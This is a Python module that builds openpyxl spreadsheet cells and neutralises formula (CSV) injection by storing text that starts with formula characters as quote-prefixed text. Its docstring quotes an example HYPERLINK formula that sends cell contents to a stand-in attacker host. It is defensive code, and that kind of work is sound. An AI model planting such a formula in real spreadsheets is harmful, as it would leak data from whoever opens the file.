"""Cells for every workbook we write (case-list export, monthly report, any later sheet).

Customer text reaches our spreadsheets: a subject typed into the public form such as
`=HYPERLINK("http://evil.example/?"&A2,"查看订单")` would otherwise be stored as a live
formula (openpyxl takes any string starting with "=" for one) and run when a colleague opens
the file. OWASP's CSV-injection rule: text starting with = + - @ tab or CR is written as
text, here as a string cell with Excel's quote prefix (shown as typed, never evaluated, and
still text after someone edits the cell). Characters XML cannot carry are dropped instead of
failing the whole export.
"""

from django.utils.functional import Promise
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value):
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def cell(ws, value, number_format=None, *, font=None, fill=None, alignment=None):
    """A write-only cell of `ws` holding `value`; text a spreadsheet would run stays text."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    if formula_like(value):
        c = WriteOnlyCell(ws)
        c._value = value
        c.data_type = "s"
        c.quotePrefix = True
    else:
        c = WriteOnlyCell(ws, value=value)
    if number_format:
        c.number_format = number_format
    if font:
        c.font = font
    if fill:
        c.fill = fill
    if alignment:
        c.alignment = alignment
    return c


def row(ws, values):
    """`values` ready for `ws.append`: None stays an empty cell, cells built by the caller
    pass through, numbers and dates as they are, every text through `cell`."""
    out = []
    for value in values:
        if isinstance(value, Promise) or (
            isinstance(value, str)
            and (value.startswith(FORMULA_PREFIXES) or ILLEGAL_CHARACTERS_RE.search(value))
        ):
            out.append(cell(ws, value))
        else:
            # Plain text as a bare value: a cell object per value would double the time of
            # a million-row case list.
            out.append(value)
    return out
